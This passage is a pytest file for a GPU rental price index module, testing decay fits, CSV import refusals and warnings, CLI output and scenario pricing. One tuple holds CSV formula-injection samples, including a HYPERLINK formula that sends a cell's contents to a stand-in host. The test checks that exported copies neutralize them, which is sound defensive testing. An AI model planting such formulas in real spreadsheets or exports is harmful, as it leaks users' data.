"""Rental index series (econ.rental_index, `econ market`, market.rental_series).

The decay fit against closed forms, the index file's refusals (exit 3 naming the file, line and
column), a scenario priced from a series against the same scenario given the equivalent
rental_table by hand, the error band's path into Monte Carlo, and the CLI in-process.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import math

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from econ import rental_index as ri
from econ.batch import ScenarioBatch
from econ.cli import main
from econ.engine import project
from econ.errors import InputError
from econ.price_paths import scenario_price_paths
from econ.scenario import ScenarioError, load_scenario
from tests.conftest import ROOT

HEADER = "date,series,gpu,term_months,usd_per_gpu_hour,source\n"
BASE = ROOT / "models" / "scenarios" / "llama2-70b-h200.toml"


def _write(tmp_path, body: str, header: str = HEADER, name: str = "index.csv"):
    path = tmp_path / name
    path.write_text(header + body)
    return path


# --- the fit ------------------------------------------------------------------------------------


def test_floor_fit_recovers_an_exact_exponential_to_a_floor():
    t = np.array([0.0, 0.4, 1.0, 1.7, 2.5, 3.2, 4.0])
    prices = 1.65 + 6.35 * np.exp(-0.9 * t)  # an H100-like fall from 8 USD towards 1.65
    fit = ri.fit_decay(t, prices)
    assert fit.model == "floor"
    assert fit.floor_usd_per_gpu_hour == pytest.approx(1.65, rel=1e-7)
    assert fit.amplitude_usd_per_gpu_hour == pytest.approx(6.35, rel=1e-7)
    assert fit.rate_annual == pytest.approx(0.9, rel=1e-7)
    assert fit.decline_annual == pytest.approx(1 - math.exp(-0.9), rel=1e-7)
    assert fit.sigma_log == pytest.approx(0.0, abs=1e-9)


def test_three_points_fit_log_linear_exactly():
    t = np.array([0.0, 0.5, 1.25])
    fit = ri.fit_decay(t, 8.0 * np.exp(-0.5 * t))
    assert fit.model == "log-linear"
    assert fit.floor_usd_per_gpu_hour == 0.0
    assert fit.amplitude_usd_per_gpu_hour == pytest.approx(8.0, rel=1e-12)
    assert fit.rate_annual == pytest.approx(0.5, rel=1e-12)


def test_log_linear_residual_standard_error_is_ols_in_log_price():
    t = np.array([0.0, 1.0, 2.0])
    y = np.array([np.log(4.0), np.log(3.0), np.log(2.5)])
    fit = ri.fit_decay(t, np.exp(y))
    slope, intercept = np.polyfit(t, y, 1)
    residuals = y - (intercept + slope * t)
    assert fit.rate_annual == pytest.approx(-slope, rel=1e-12)
    assert fit.sigma_log == pytest.approx(math.sqrt(np.sum(residuals**2) / 1), rel=1e-10)
    band = fit.band_factors()
    assert band["low"] * band["high"] == pytest.approx(1.0)
    assert band["high"] == pytest.approx(math.exp(1.6448536269514722 * fit.sigma_log))


def test_a_rising_series_is_held_flat_not_extrapolated_upwards():
    fit = ri.fit_decay(np.array([0.0, 0.4, 0.7]), np.array([1.70, 2.35, 2.65]))
    assert fit.rate_annual == 0.0
    assert fit.amplitude_usd_per_gpu_hour == pytest.approx(
        math.exp(np.mean(np.log([1.7, 2.35, 2.65])))
    )


SEMI_12 = (  # SemiAnalysis 1-year H100 contracts, the shipped index (rising from a cycle low)
    [dt.date(2025, 10, 1), dt.date(2026, 3, 1), dt.date(2026, 6, 26)],
    [1.70, 2.35, 2.65],
)


def test_a_rising_series_says_so_with_the_unconstrained_trend():
    dates, prices = SEMI_12
    t = np.array([(d - dates[0]).days / 365.25 for d in dates])
    y = np.log(prices)
    slope, intercept = np.polyfit(t, y, 1)  # the unconstrained fit, independently
    trend_sigma = math.sqrt(np.sum((y - intercept - slope * t) ** 2) / (3 - 2))
    flat_sigma = math.sqrt(np.sum((y - y.mean()) ** 2) / (3 - 2))
    fit = ri.fit_decay(t, np.array(prices))
    assert fit.decline_held_at_zero and fit.rate_annual == 0.0 and fit.model == "log-linear"
    assert fit.trend_annual == pytest.approx(math.exp(slope) - 1, rel=1e-12)  # +84.7% a year
    assert f"{fit.trend_annual:+.1%}" == "+84.7%"
    assert fit.trend_sigma_log == pytest.approx(trend_sigma, rel=1e-10)  # 0.05998
    assert fit.sigma_log == pytest.approx(flat_sigma, rel=1e-10)  # 0.3247, about the flat fit
    said = fit.description()
    assert "decline held at 0 as the prices rise +84.7% a year" in said
    assert f"residual s.e. of ln price about this flat fit {flat_sigma:.4g}" in said
    assert "e^(-0 t)" not in said and "premium decline 0.0%" not in said


def test_market_show_says_a_series_rises_in_the_table_and_the_json(capsys):
    args = ["market", "show", "SemiAnalysis/RentalIndex", "--term", "12"]
    assert main([*args, "--format", "json"]) == 0
    fit = json.loads(capsys.readouterr().out)["fit"]
    assert fit["decline_held_at_zero"] is True and fit["rate_annual"] == 0.0
    assert fit["trend_annual"] == pytest.approx(0.8468, abs=5e-5)
    assert fit["trend_sigma_log"] == pytest.approx(0.05998, abs=5e-6)
    assert fit["sigma_log"] == pytest.approx(0.3247, abs=5e-5)
    assert main(args) == 0
    text = capsys.readouterr().out
    assert "decline held at 0 as the prices rise +84.7% a year" in text
    assert "rising:          the decline is held at 0" in text
    # a falling series says nothing of the kind
    assert main(["market", "show", "CCIR/CRI-T1IF", "--gpu", "H100", "--format", "json"]) == 0
    falling = json.loads(capsys.readouterr().out)["fit"]
    assert falling["decline_held_at_zero"] is False and falling["trend_annual"] < 0


def test_five_rising_points_are_no_degenerate_floor_fit(tmp_path, capsys):
    dates = ["2025-01-01", "2025-04-01", "2025-07-01", "2025-10-01", "2026-01-01"]
    prices = [2.00, 2.30, 2.70, 3.00, 3.40]
    body = "".join(f"{d},Pub/Up,H100,0,{p:.2f},src\n" for d, p in zip(dates, prices, strict=True))
    path = _write(tmp_path, body)
    assert main(["market", "show", "Pub/Up", "--index", str(path), "--format", "json"]) == 0
    fit = json.loads(capsys.readouterr().out)["fit"]
    t = np.array([(dt.date.fromisoformat(d) - dt.date(2025, 1, 1)).days / 365.25 for d in dates])
    slope = np.polyfit(t, np.log(prices), 1)[0]
    assert fit["model"] == "log-linear" and fit["floor_usd_per_gpu_hour"] == 0.0
    assert fit["decline_held_at_zero"] is True
    assert fit["trend_annual"] == pytest.approx(math.exp(slope) - 1, rel=1e-12)
    assert fit["amplitude_usd_per_gpu_hour"] == pytest.approx(math.exp(np.mean(np.log(prices))))
    assert main(["market", "show", "Pub/Up", "--index", str(path)]) == 0
    assert "floor fit" not in capsys.readouterr().out


@pytest.mark.parametrize(
    "prices",
    [
        8.0 * np.exp(-0.4 * np.array([0.0, 0.5, 1.0, 1.5, 2.0, 3.0])),  # floor 0: log-linear
        np.array([2.5, 2.5, 2.5, 2.5, 2.5, 2.5]),  # flat: no decay at all
        2.0 * np.array([1.0, 1.12, 1.2, 1.35, 1.4, 1.7]),  # rising: the floor fit's k is 0
    ],
    ids=["exponential", "flat", "rising"],
)
def test_a_degenerate_floor_fit_is_reported_as_the_log_linear_fit(prices):
    t = np.array([0.0, 0.5, 1.0, 1.5, 2.0, 3.0])
    fit = ri.fit_decay(t, prices)
    assert fit.model == "log-linear" and fit.parameters == 2
    y = np.log(prices)
    slope, intercept = np.polyfit(t, y, 1)
    k = max(-slope, 0.0)
    a = np.mean(y + k * t)
    assert fit.rate_annual == pytest.approx(k, abs=1e-12)
    assert fit.sigma_log == pytest.approx(
        math.sqrt(np.sum((y - a + k * t) ** 2) / (6 - 2)), abs=1e-12
    )


def _multistart_floor_fit(t, p):
    """The floor fit by brute force: scipy's least_squares from 15 starts (5 rates x 3 floors),
    tolerances 1e-15, finite-difference Jacobian: the search econ made before the profile."""
    from scipy.optimize import least_squares

    y, low = np.log(p), float(p.min())
    best = None
    for k0 in (0.1, 0.5, 1.0, 2.0, 5.0):
        for share in (0.0, 0.5, 0.9):
            result = least_squares(
                lambda x: np.log(x[0] + x[1] * np.exp(-x[2] * t)) - y,
                x0=[share * low, max(float(p[0]) - share * low, 1e-6 * low), k0],
                bounds=([0.0, 0.0, 0.0], [low * (1 - 1e-12), np.inf, ri.MAX_RATE_ANNUAL]),
                x_scale="jac",
                xtol=1e-15,
                ftol=1e-15,
                gtol=1e-15,
                max_nfev=2000,
            )
            if best is None or result.cost < best.cost:
                best = result
    return best


@settings(max_examples=20, deadline=None)
@given(
    floor=st.floats(0.3, 3.0),
    amplitude=st.floats(0.5, 8.0),
    rate=st.floats(0.1, 6.0),
    noise=st.sampled_from([0.01, 0.05, 0.15]),
    seed=st.integers(0, 2**32 - 1),
)
def test_the_profiled_floor_fit_matches_a_brute_force_multistart_search(
    floor, amplitude, rate, noise, seed
):
    rng = np.random.default_rng(seed)
    t = np.sort(np.concatenate([[0.0], rng.uniform(0.05, 4.0, 7)]))
    prices = (floor + amplitude * np.exp(-rate * t)) * np.exp(rng.normal(0, noise, t.size))
    fit = ri.fit_decay(t, prices)
    brute = _multistart_floor_fit(t, prices)
    ssr = fit.sigma_log**2 * (t.size - fit.parameters)
    assert ssr <= 2 * brute.cost * (1 + 1e-9) + 1e-20  # never a worse fit
    if fit.model == "floor" and 2 * brute.cost > ssr * (1 + 1e-6):
        return  # the profile found a better minimum than the 15 starts did
    if fit.model == "floor":  # the same fit, to the printed 4 significant digits and beyond
        f, a, k = brute.x
        assert fit.floor_usd_per_gpu_hour == pytest.approx(f, rel=1e-6, abs=1e-9)
        assert fit.amplitude_usd_per_gpu_hour == pytest.approx(a, rel=1e-6)
        if a * math.exp(-k * t[1]) > 1e-6 * prices.min():  # k is pinned by the points
            assert fit.rate_annual == pytest.approx(k, rel=1e-6)


def test_a_long_series_is_fitted_by_a_few_refinements_not_fifteen_searches(monkeypatch):
    import scipy.optimize

    calls = []
    real = scipy.optimize.least_squares
    monkeypatch.setattr(
        scipy.optimize, "least_squares", lambda *a, **k: calls.append(1) or real(*a, **k)
    )
    rng = np.random.default_rng(3)
    t = np.arange(20_000) / 365.25  # 20,000 daily quotes, 55 years
    prices = (1.5 + 6 * np.exp(-0.8 * t)) * rng.lognormal(0, 0.05, t.size)
    fit = ri.fit_decay(t, prices)
    assert fit.model == "floor" and len(calls) <= 3


def test_too_few_points_are_refused():
    with pytest.raises(ri.RentalIndexError, match="at least 3"):
        ri.fit_decay(np.array([0.0, 1.0]), np.array([3.0, 2.0]))


@settings(max_examples=25, deadline=None)
@given(
    floor=st.floats(0.5, 3.0),
    amplitude=st.floats(0.5, 8.0),
    rate=st.floats(0.2, 3.0),
)
def test_fit_recovers_any_exact_decay_and_extends_it_through_the_last_point(floor, amplitude, rate):
    t = np.array([0.0, 0.3, 0.8, 1.5, 2.2, 3.0])
    prices = floor + amplitude * np.exp(-rate * t)
    fit = ri.fit_decay(t, prices)
    later = np.array([3.5, 5.0, 8.0])
    np.testing.assert_allclose(fit.value(t), prices, rtol=1e-6)
    extended = ri.extend(fit, t[-1], prices[-1], later)
    np.testing.assert_allclose(extended, floor + amplitude * np.exp(-rate * later), rtol=1e-5)
    # invariants: through the last point, falling, never below the fitted floor
    assert ri.extend(fit, t[-1], prices[-1], [t[-1]])[0] == pytest.approx(prices[-1])
    assert np.all(np.diff(extended) <= 1e-12)
    assert np.all(extended >= fit.floor_usd_per_gpu_hour * (prices[-1] / fit.value(t[-1])) - 1e-9)


def test_extend_by_decline_is_the_engine_rental_curve():
    years = np.array([0.0, 1.0, 2.0])
    out = ri.extend_by_decline(0.35, 1.86, 0.0, 4.0, years)
    np.testing.assert_allclose(out, 1.86 + (4.0 - 1.86) * 0.65**years)


# --- the index file -----------------------------------------------------------------------------


def test_shipped_index_loads_each_point_cited_and_publishers_differ_by_more_than_2_usd():
    points = ri.load_catalog()
    assert points and all(p.source for p in points)
    by = ri.curves(points)
    tier1 = by[("CCIR/CRI-T1IF", "H100", 0)].points[0]
    tier3 = by[("CCIR/CRI-T3IF", "H100", 0)].points[0]
    assert tier1.date == tier3.date == dt.date(2026, 5, 13)
    assert tier1.usd_per_gpu_hour - tier3.usd_per_gpu_hour > 2.0  # ccir.io/tiers, 2026-05-13
    assert {p.publisher for p in points} == {"CCIR", "SemiAnalysis", "SiliconData"}


GOOD = "2026-01-01,Pub/Idx,H100,0,3.0,src a\n2026-02-01,Pub/Idx,H100,0,2.9,src b\n"

REFUSALS = {  # header, body, where, the cell quoted (a user's own file; None: nothing quoted)
    "unsorted dates": (
        HEADER,
        GOOD + "2026-01-15,Pub/Idx,H100,0,2.8,src c\n",
        "line 4, column date: 2026-01-15 comes before the date on line 3",
        None,
    ),
    "duplicate date": (
        HEADER,
        GOOD + "2026-02-01,Pub/Idx,H100,0,2.8,src c\n",
        "line 4, column date: 2026-02-01 repeats the date on line 3",
        None,
    ),
    "negative price": (
        HEADER,
        "2026-01-01,Pub/Idx,H100,0,-3.00,src\n",
        "line 2, column usd_per_gpu_hour",
        "'-3.00'",
    ),
    "a currency sign": (
        HEADER,
        "2026-01-01,Pub/Idx,H100,0,$3.00,src\n",
        "line 2, column usd_per_gpu_hour",
        "'$3.00'",
    ),
    "nan price": (
        HEADER,
        "2026-01-01,Pub/Idx,H100,0,nan,src\n",
        "line 2, column usd_per_gpu_hour",
        "'nan'",
    ),
    "inf price": (
        HEADER,
        "2026-01-01,Pub/Idx,H100,0,inf,src\n",
        "line 2, column usd_per_gpu_hour",
        "'inf'",
    ),
    "zero price": (
        HEADER,
        "2026-01-01,Pub/Idx,H100,0,0,src\n",
        "line 2, column usd_per_gpu_hour",
        "'0'",
    ),
    "fractional term": (
        HEADER,
        "2026-01-01,Pub/Idx,H100,1.5,2,src\n",
        "line 2, column term_months",
        "'1.5'",
    ),
    "negative term": (
        HEADER,
        "2026-01-01,Pub/Idx,H100,-12,2,src\n",
        "line 2, column term_months",
        "'-12'",
    ),
    "bad date": (
        HEADER,
        "2026-13-01,Pub/Idx,H100,0,2,src\n",
        "line 2, column date",
        "'2026-13-01'",
    ),
    "date far ahead": (
        HEADER,
        "2537-07-31,Pub/Idx,H100,0,2,src\n",
        "line 2, column date",
        "'2537-07-31'",
    ),
    "date long ago": (
        HEADER,
        "1900-01-01,Pub/Idx,H100,0,2,src\n",
        "line 2, column date",
        "'1900-01-01'",
    ),
    "series without publisher": (
        HEADER,
        "2026-01-01,Idx,H100,0,2,src\n",
        "line 2, column series",
        "'Idx'",
    ),
    "no source": (HEADER, "2026-01-01,Pub/Idx,H100,0,2,\n", "line 2, column source", "empty"),
    "extra field": (HEADER, "2026-01-01,Pub/Idx,H100,0,2,src,x\n", "line 2: 7 fields", None),
    "missing field": (HEADER, "2026-01-01,Pub/Idx,H100,0,2\n", "line 2: 5 fields", None),
    "missing column": (
        "date,series,gpu,usd_per_gpu_hour,source\n",
        "2026-01-01,Pub/Idx,H100,2,src\n",
        "column term_months is missing",
        None,
    ),
    "extra column": (
        HEADER.rstrip() + ",region\n",
        "2026-01-01,Pub/Idx,H100,0,2,src,us\n",
        "7 columns",
        None,
    ),
    "another schema": (
        "system,accelerator,benchmark,scenario,result\n",
        "a,b,c,d,1\n",
        "expected a rental index file",
        None,
    ),
    "reordered columns": (
        "series,date,gpu,term_months,usd_per_gpu_hour,source\n",
        "Pub/Idx,2026-01-01,H100,0,2,src\n",
        "another order",
        None,
    ),
    "no rows": (HEADER, "", "no data rows", None),
}


@pytest.mark.parametrize("case", sorted(REFUSALS))
def test_import_refuses_bad_input_naming_file_line_column_and_value(case, tmp_path, capsys):
    header, body, where, shown = REFUSALS[case]
    path = _write(tmp_path, body, header)
    assert main(["market", "import", str(path)]) == 3
    err = capsys.readouterr().err
    assert str(path) in err and where in err
    assert "Traceback" not in err
    if shown is not None:  # the bad cell itself, then what was expected
        assert f"{where}: {shown}; expected " in err
    for secret in ("region", "accelerator", "src"):  # the rest of the file is not quoted
        assert secret not in err


def test_a_date_out_of_range_is_refused_stating_the_range(tmp_path, capsys):
    for date in ("1999-12-31", "2101-01-01"):
        path = _write(tmp_path, f"{date},Pub/Idx,H100,0,2,src\n")
        assert main(["market", "import", str(path)]) == 3
        assert "expected a date YYYY-MM-DD from 2000-01-01 to 2100-12-31" in capsys.readouterr().err
    edges = "2000-01-01,Pub/Idx,H100,0,3,src\n2100-12-31,Pub/Idx,H100,0,2,src\n"
    assert [p.date for p in ri.read_index(_write(tmp_path, edges))] == [
        dt.date(2000, 1, 1),
        dt.date(2100, 12, 31),
    ]



@pytest.mark.parametrize(
    ("row", "where"),
    [
        ("20260101,Pub/Idx,H100,0,2,src", "column date"),  # Python reads it as 2026-01-01
        ("2026-W01-1,Pub/Idx,H100,0,2,src", "column date"),  # and this as an ISO week date
        ("2026-01-01,Pub/Idx,H100,0,2_5,src", "column usd_per_gpu_hour"),  # float() reads 25
        ("2026-01-01,Pub/Idx,H100,1_2,2,src", "column term_months"),  # int() reads 12
    ],
)
def test_only_the_documented_forms_of_dates_and_numbers_are_read(row, where, tmp_path, capsys):
    # A review: 20240101 and 2024-W01-1 were read as dates, and 2_5 as 25 USD/GPU-hour.
    assert main(["market", "import", str(_write(tmp_path, row + "\n"))]) == 3
    assert where in capsys.readouterr().err


def test_a_price_just_above_the_bound_is_not_written_as_the_bound(tmp_path, capsys):
    # A review: 100.0000001 read "100 USD/GPU-hour is above 100".
    path = _write(tmp_path, "2026-01-01,Pub/Idx,H100,0,100.0000001,src\n")
    assert main(["market", "import", str(path)]) == 0
    assert "100.0000001 USD/GPU-hour is above 100 " in capsys.readouterr().err

def test_a_long_cell_is_quoted_cut_to_40_characters(tmp_path, capsys):
    price = "9" * 30 + "x" * 100
    path = _write(tmp_path, f"2026-01-01,Pub/Idx,H100,0,{price},src\n")
    assert main(["market", "import", str(path)]) == 3
    err = capsys.readouterr().err
    assert f"column usd_per_gpu_hour: {repr(price)[:40]}... (132 characters); expected" in err


def test_import_refuses_a_toml_file_and_a_binary_file(tmp_path, capsys):
    binary = tmp_path / "index.csv"
    binary.write_bytes(b"\xff\xfe\x00\x01garbage")
    assert main(["market", "import", str(binary)]) == 3
    assert str(binary) in capsys.readouterr().err
    assert main(["market", "import", str(BASE)]) == 3
    assert "expected a rental index file" in capsys.readouterr().err


def test_import_writes_a_validated_copy_and_keeps_an_existing_file(tmp_path, capsys):
    source = _write(tmp_path, GOOD.replace("3.0", "3.00"))
    out = tmp_path / "checked.csv"
    assert main(["market", "import", str(source), "--out", str(out)]) == 0
    assert ri.read_index(out) == ri.read_index(source)
    assert "2 points" in capsys.readouterr().out
    capsys.readouterr()
    assert main(["market", "import", str(source), "--out", str(out)]) == 3  # no --force
    refused = capsys.readouterr()
    assert "ok" not in refused.out  # an import that was not saved is not said to be ok
    assert refused.err.rstrip().endswith(f"{out} exists; use --force to overwrite")
    assert "from Python" not in refused.err  # a command's user is told of its option only
    assert main(["market", "import", str(source), "--out", str(out), "--force"]) == 0


def test_import_counts_in_the_singular_and_plural(tmp_path, capsys):
    one = _write(tmp_path, "2026-01-01,Pub/One,H100,0,3.0,src\n", name="one.csv")
    assert main(["market", "import", str(one)]) == 0
    said = capsys.readouterr().out
    assert "ok, 1 point in 1 series x gpu" in said
    assert "terms 0 months: 1 point 2026-01-01 to 2026-01-01" in said
    two = _write(tmp_path, GOOD + "2026-01-01,Pub/Other,H100,0,3.0,src\n", name="two.csv")
    assert main(["market", "import", str(two)]) == 0
    said = capsys.readouterr().out
    assert "ok, 3 points in 2 series x gpu" in said and ": 2 points 2026-01-01" in said


def test_an_implausible_price_is_read_with_a_warning(tmp_path, capsys):
    body = "2026-01-01,Pub/Idx,H100,0,3000,src\n2026-02-01,Pub/Idx,H100,0,100,src\n"
    path = _write(tmp_path, body)
    assert main(["market", "import", str(path)]) == 0  # warned, not refused
    err = capsys.readouterr().err
    warned = [line for line in err.splitlines() if "USD/GPU-hour is above" in line]
    assert len(warned) == 1  # 100 is at the bound, not above it
    assert "2026-01-01 Pub/Idx H100 term 0 months: 3000 USD/GPU-hour is above 100" in warned[0]
    assert str(path) in warned[0] and "per node of several GPUs, per month or in cents" in err
    assert main(["market", "show", "Pub/Idx", "--index", str(path), "--format", "json"]) == 0
    assert "3000 USD/GPU-hour is above 100" in capsys.readouterr().err


def test_a_mistyped_price_and_a_date_in_the_future_are_read_with_warnings(tmp_path, capsys):
    """`econ market import` said "ok" of a price 10x its neighbours (25 among 2.8 and 2.4) and
    of a date decades ahead (an outside review)."""
    body = (
        "2024-01-01,Syn/Typo,H100,0,3.0,s\n"  # line 2
        "2024-03-01,Syn/Typo,H100,0,2.8,s\n"
        "2024-04-30,Syn/Typo,H100,0,25,s\n"  # line 4
        "2024-06-29,Syn/Typo,H100,0,2.4,s\n"
        "2024-08-28,Syn/Typo,H100,0,0.48,s\n"  # 2.4 / 5: a fall of 5x exactly
        "2024-09-28,Syn/Typo,H100,0,2.399,s\n"  # 0.48 * 4.998: under 5x
        "2062-06-24,Syn/Typo,H100,0,2.3,s\n"  # line 8
    )
    path = _write(tmp_path, body)
    assert main(["market", "import", str(path)]) == 0  # warned, not refused
    out, err = capsys.readouterr()
    assert "ok, 7 points" in out
    warned = [line for line in err.splitlines() if line.startswith("warning:")]
    assert warned == [
        f"warning: {path}: line 4, 2024-04-30 Syn/Typo H100 term 0 months: 25 USD/GPU-hour is "
        f"{25 / 2.8:.3g} times the point before it (2.8 on 2024-03-01, line 3); expected no jump "
        "of 5x or more between consecutive points (a mistyped price?)",
        f"warning: {path}: line 5, 2024-06-29 Syn/Typo H100 term 0 months: 2.4 USD/GPU-hour is "
        f"1/{25 / 2.4:.3g} of the point before it (25 on 2024-04-30, line 4); expected no jump "
        "of 5x or more between consecutive points (a mistyped price?)",
        f"warning: {path}: line 6, 2024-08-28 Syn/Typo H100 term 0 months: 0.48 USD/GPU-hour is "
        "1/5 of the point before it (2.4 on 2024-06-29, line 5); expected no jump of 5x or more "
        "between consecutive points (a mistyped price?)",
        f"warning: {path}: line 8, 2062-06-24 Syn/Typo H100 term 0 months: the date 2062-06-24 "
        f"is after today ({dt.date.today()}); expected the date the price was published or "
        "quoted (a mistyped year?)",
    ]


def test_only_points_of_the_same_series_gpu_and_term_are_compared_and_today_counts():
    points = ri.parse_index(
        HEADER
        + "2026-01-01,Pub/A,H100,0,2.0,s\n"
        + "2026-01-01,Pub/A,H100,12,20.0,s\n"  # another term
        + "2026-01-01,Pub/A,H200,0,20.0,s\n"  # another gpu
        + "2026-01-01,Pub/B,H100,0,20.0,s\n"  # another series
        + "2026-02-01,Pub/A,H100,0,2.0,s\n"
    )
    assert ri.price_warnings(points, today=dt.date(2026, 2, 1)) == []
    (later,) = ri.price_warnings(points, today=dt.date(2026, 1, 31))
    assert later.startswith("<index>: line 6, 2026-02-01 Pub/A H100 term 0 months: the date")


def test_the_price_bound_is_far_above_every_shipped_price():
    # the warning says the highest price econ ships is 13.52 (CCIR tier-1 GB200, 2026-05-13)
    highest = max(ri.load_catalog(), key=lambda p: p.usd_per_gpu_hour)
    assert (highest.usd_per_gpu_hour, highest.gpu, highest.date) == (
        13.52,
        "GB200",
        dt.date(2026, 5, 13),
    )
    assert ri.MAX_PLAUSIBLE_USD_PER_GPU_HOUR > 7 * highest.usd_per_gpu_hour
    assert not ri.price_warnings(ri.load_catalog())


FORMULAS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "\u200b=1+1",
    "\u00ad-1+1",
    "\uff1d1+1",
)


def test_the_written_copy_neutralizes_formula_like_sources_and_reads_back(tmp_path):
    from econ.text import looks_like_formula

    quoted = ['"' + text.replace('"', '""') + '"' for text in FORMULAS]
    body = "".join(
        f"2026-{i + 1:02d}-01,Pub/Idx,H100,0,{3.0 - i / 10},{cell}\n"
        for i, cell in enumerate(quoted)
    )
    source = _write(tmp_path, body)
    out = tmp_path / "checked.csv"
    assert main(["market", "import", str(source), "--out", str(out)]) == 0
    rows = list(csv.reader(io.StringIO(out.read_text())))[1:]
    for row in rows:  # no cell of the copy reads as a formula in a spreadsheet
        assert not any(looks_like_formula(cell) for cell in row)
    assert [row[5] for row in rows] == ["'" + text for text in FORMULAS]
    points = ri.read_index(out)
    assert [p.source for p in points] == list(FORMULAS)
    assert points == ri.read_index(source)
    assert ri.index_csv(points) == out.read_text()  # writing the copy again changes nothing


# --- the CLI ------------------------------------------------------------------------------------


def test_market_list_json_and_table(capsys):
    assert main(["market", "list", "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out)["series"]
    semi = next(r for r in rows if r["series"] == "SemiAnalysis/RentalIndex")
    assert semi == {
        "series": "SemiAnalysis/RentalIndex",
        "publisher": "SemiAnalysis",
        "gpu": "H100",
        "terms_months": [0, 12],
        "first_date": "2024-10-07",
        "last_date": "2026-06-26",
        "points": 4,
    }
    assert main(["market", "list"]) == 0
    assert "CCIR/CRI-T2IF" in capsys.readouterr().out


def test_market_show_fit_and_montecarlo_suggestion(tmp_path, capsys):
    body = "".join(
        f"{d},Pub/Idx,H100,12,{1.65 + 6.35 * math.exp(-0.9 * t):.12f},src\n"
        for d, t in _dated_ages()
    )
    path = _write(tmp_path, body)
    assert main(["market", "show", "Pub/Idx", "--index", str(path), "--format", "json"]) == 0
    out = json.loads(capsys.readouterr().out)
    assert out["term_months"] == 12 and len(out["points"]) == 6
    assert out["fit"]["model"] == "floor"
    assert out["fit"]["floor_usd_per_gpu_hour"] == pytest.approx(1.65, rel=1e-6)
    assert out["fit"]["rate_annual"] == pytest.approx(0.9, rel=1e-6)
    assert "rental_series_band_sigmas" in out["fit"]["montecarlo_dist"]
    assert main(["market", "show", "Pub/Idx", "--index", str(path)]) == 0
    text = capsys.readouterr().out
    assert "--dist market.rental_series_band_sigmas=" in text
    assert "the points span 16 months; carried further than that past 2026-05-01" in text


def test_market_show_a_term_not_in_the_series(capsys):
    assert main(["market", "show", "SemiAnalysis/RentalIndex", "--term", "6"]) == 3
    err = capsys.readouterr().err
    assert "no term of 6 months" in err and "0 months, 12 months" in err
    assert main(["market", "show", "SemiAnalysis/RentalIndex"]) == 3  # two terms: choose one
    assert "--term" in capsys.readouterr().err
    assert main(["market", "show", "Nobody/Nothing"]) == 3
    assert "CCIR/CRI-T2IF" in capsys.readouterr().err


def _curve(dates, prices=None):
    points = tuple(
        ri.IndexPoint(d, "Pub/Thin", "H200", 0, p, "test")
        for d, p in zip(dates, prices or [4.0 - 0.1 * i for i in range(len(dates))], strict=True)
    )
    return ri.Curve("Pub/Thin", "H200", 0, points)


def test_a_fit_carried_past_its_points_further_than_they_span_gets_a_caution():
    thin = _curve([dt.date(2026, 5, 13), dt.date(2026, 6, 3), dt.date(2026, 6, 24)])
    span = (dt.date(2026, 6, 24) - dt.date(2026, 5, 13)).days / 365.25  # 42 days: 6 weeks
    assert ri.extrapolation_caution(thin, 2 * span) is None  # carried as far as they span
    said = ri.extrapolation_caution(thin, 2 * span + 1e-9)
    assert "3 points over 6 weeks" in said and "carried 6 weeks past them" in said
    assert "carried 3.9 years" in ri.extrapolation_caution(thin, span + 3.9)
    # six years of quarterly points carried one year: no caution
    long = _curve([dt.date(2020 + q // 4, 1 + 3 * (q % 4), 1) for q in range(24)])
    assert ri.extrapolation_caution(long, float(long.years(long.dates)[-1]) + 1.0) is None


@given(st.floats(0.001, 30.0))
def test_duration_words_round_to_their_unit(years):
    from econ.labels import duration

    number, unit = duration(years).split(" ")
    value = float(number.replace(",", ""))
    assert value > 0
    scale = {"week": 7 / 365.25, "weeks": 7 / 365.25, "month": 1 / 12, "months": 1 / 12}
    if unit == "years":
        assert years >= 2 and abs(value - years) <= 0.05 + 1e-9
    else:
        assert abs(value * scale[unit] - years) <= scale[unit] / 2 + 1e-9 or value == 1


def test_a_scenario_priced_from_a_short_fitted_series_is_warned_a_given_decline_is_not():
    overrides = [*MARKET, "market.contract_usd_per_gpu_hour=0", 'market.rental_series="CCIR/CRI-T2IF"',
                 "market.rental_series_term_months=0"]  # fmt: skip
    scenario = load_scenario(BASE, overrides)
    found = ri.resolve_series(
        scenario.market, scenario.fleet.hardware, scenario.start_date, scenario.horizon
    )
    assert "caution: the fit rests on 3 points over 6 weeks" in found.warning
    assert "market.rental_decline_annual sets the decline instead" in found.warning
    given_decline = load_scenario(BASE, [*overrides, "market.rental_decline_annual=0.3"])
    found = ri.resolve_series(
        given_decline.market, scenario.fleet.hardware, scenario.start_date, scenario.horizon
    )
    assert "caution" not in found.warning


# --- a scenario priced from a series ------------------------------------------------------------


def _dated_ages():
    dates = [dt.date(2025, m, 1) for m in (1, 4, 7, 10)] + [
        dt.date(2026, 1, 1),
        dt.date(2026, 5, 1),
    ]
    return [(d, (d - dates[0]).days / 365.25) for d in dates]


@pytest.fixture
def exact_index(tmp_path, monkeypatch):
    """An index whose H200 12-month curve is exactly P = 1.2 + 3 e^(-0.7 t), on month starts."""
    body = "".join(
        f"{d},Pub/Exact,H200,12,{1.2 + 3.0 * math.exp(-0.7 * t):.15f},closed form\n"
        for d, t in _dated_ages()
    )
    path = _write(tmp_path, body)
    monkeypatch.setattr(ri, "catalog_path", lambda: path)
    return path


MARKET = [
    "start_date=2026-05-01",
    "horizon_months=36",
    'market.spot_sells="gpu_hours"',
    "market.contract_share=0.5",
    "market.contract_term_months=12",
]


def test_series_prices_the_rental_line_as_the_equivalent_hand_table(exact_index):
    by_series = load_scenario(
        BASE,
        [
            *MARKET,
            "market.contract_usd_per_gpu_hour=0",
            'market.rental_series="Pub/Exact"',
            "market.rental_series_term_months=12",
        ],
    )
    first = dt.date(2025, 1, 1)
    dates = [d for d, _ in _dated_ages()]
    month_dates = [dt.date(2026 + (4 + m) // 12, (4 + m) % 12 + 1, 1) for m in range(37)]
    dates += [d for d in month_dates if d > dates[-1]]
    price = {d: 1.2 + 3.0 * math.exp(-0.7 * (d - first).days / 365.25) for d in dates}
    table = ", ".join(f"{{date = {d}, price_usd_per_gpu_hour = {price[d]!r}}}" for d in dates)
    by_hand = load_scenario(
        BASE,
        [
            *MARKET,
            f"market.contract_usd_per_gpu_hour={price[dt.date(2026, 6, 1)]!r}",
            f"market.rental_table=[{table}]",
        ],
    )
